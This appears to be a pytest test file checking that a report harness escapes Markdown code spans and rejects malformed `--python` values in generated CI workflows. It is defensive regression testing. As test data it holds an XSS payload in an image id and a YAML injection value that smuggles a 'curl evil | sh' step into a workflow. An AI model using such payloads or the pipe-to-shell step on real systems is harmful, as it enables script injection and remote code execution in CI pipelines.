"""Markdown and YAML built safely: text from a corpus, a service or the command line cannot become markup.

Planted on 22c6256: an image id holding two backticks closed `code()`'s fixed `` fence, and the `<img>` /
`<h1>` after it reached summary.md and $GITHUB_STEP_SUMMARY as HTML; `init --python` with a newline added a
step to the generated workflow. Rendered here with a CommonMark parser (raw HTML on, as GitHub's sanitiser
would keep <img> and <h1>), so the check is what a reader sees, not what the string looks like.
"""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from conftest import typed
from markdown_it import MarkdownIt
from report.test_markdown import failing_report

from harness.cli import main
from harness.report.markdown import code, render_summary, write_step_summary

HOSTILE = ["a``<img src=x onerror=alert(1)>``b", "```<h1>fake</h1>```", "`x`", "x`", "`", "``", "a|b`c|d",
           "````\n# heading\n````"]


def _html(markdown: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_code_span_holds_any_text(text: str) -> None:
    html = _html(f"| id |\n|---|\n| {code(text)} |\n")
    assert "<img" not in html and "<h1" not in html, html
    assert html.count("<code>") == 1 and html.count("<td>") == 1, html
    shown = html.split("<code>")[1].split("</code>")[0]
    assert shown.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&amp;", "&") == \
        " ".join(text.split())


def _hostile_report() -> dict:
    report = failing_report(2)
    for image, bad in zip(report["images"], HOSTILE[:2], strict=True):
        image["id"] = bad
    report["checks"]["golden"]["failed_images"] = HOSTILE[:2]
    return report


def test_summary_and_step_summary_hold_no_markup_from_image_ids(tmp_path: Path) -> None:
    summary = render_summary(typed(_hostile_report()))
    target = tmp_path / "step_summary.md"
    assert write_step_summary(typed(_hostile_report()), environ={"GITHUB_STEP_SUMMARY": str(target)}) == target
    for text in (summary, target.read_text(encoding="utf-8")):
        html = _html(text)
        assert "<img" not in html and "<h1>fake" not in html, html
        assert "&lt;img src=x onerror=alert(1)&gt;" in html


@pytest.mark.parametrize("python", ['3.12"\n      - run: curl evil | sh\n#', "3.12\nrun: x", '3.12"', "3.`12`",
                                    "3.12 ", "", "latest"])
def test_init_refuses_a_python_that_is_not_a_version(tmp_path: Path, python: str,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "repo"
    assert main(["init", str(target), "--python", python, "--ci", "github,gitlab,k8s,slurm"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "--python" in err[0] and "not a Python version" in err[0], err
    assert not target.exists()


@pytest.mark.parametrize("python", ["3.11", "3.12.4", "3.14.0rc1"])
def test_init_writes_the_python_it_was_given(tmp_path: Path, python: str) -> None:
    target = tmp_path / "repo"
    assert main(["init", str(target), "--python", python, "--ci", "github,gitlab"]) == 0
    workflow = yaml.safe_load((target / ".github/workflows/ocr-release.yml").read_text(encoding="utf-8"))
    steps = [s for job in workflow["jobs"].values() for s in job["steps"]]
    assert [s["with"]["python-version"] for s in steps if "python-version" in s.get("with", {})] == [python]
    gitlab = yaml.safe_load((target / ".gitlab-ci.yml").read_text(encoding="utf-8"))
    assert f"python:{python}" in str(gitlab)
